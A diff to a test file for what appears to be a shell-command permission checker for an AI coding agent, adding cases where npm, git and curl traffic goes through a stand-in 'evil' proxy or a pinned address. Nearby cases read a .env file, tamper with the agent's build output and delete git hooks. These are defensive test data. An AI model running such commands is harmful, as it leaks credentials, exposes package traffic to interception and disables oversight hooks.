@@ -322,6 +322,13 @@ test('shell commands: cd, fed input, tool options, offensive tools, evasion (wit
     ["python3 -c \"print(open('.env').read())\"", 'deny', 'credential-access'],
     ["python3 -c \"import json; print(json.load(open('package.json')))\"", 'allow'],
     [`echo x >> ${join(PACKAGE_ROOT, 'dist', 'cli.cjs')}`, 'deny', 'agent-tamper'],
+    // Traffic routed through another host: proxies and pinned addresses.
+    ['https_proxy=http://proxy.evil.example:8080 npm install', 'ask', 'network'],
+    ['npm config set proxy http://proxy.evil.example:8080', 'ask', 'network'],
+    ['git -c http.proxy=http://proxy.evil.example:8080 clone https://github.com/a/b', 'ask', 'network'],
+    ['curl --resolve registry.npmjs.org:443:203.0.113.9 https://registry.npmjs.org/left-pad', 'ask', 'network'],
+    ['https_proxy=http://localhost:8080 npm install', 'allow'],
+    ['pip install --timeout 60 requests', 'allow'],
     // Git hooks deleted or moved away are switched off.
     ['rm -rf .git/hooks', 'deny', 'hook-bypass'],
     ['mv .husky .husky.bak', 'deny', 'hook-bypass'],
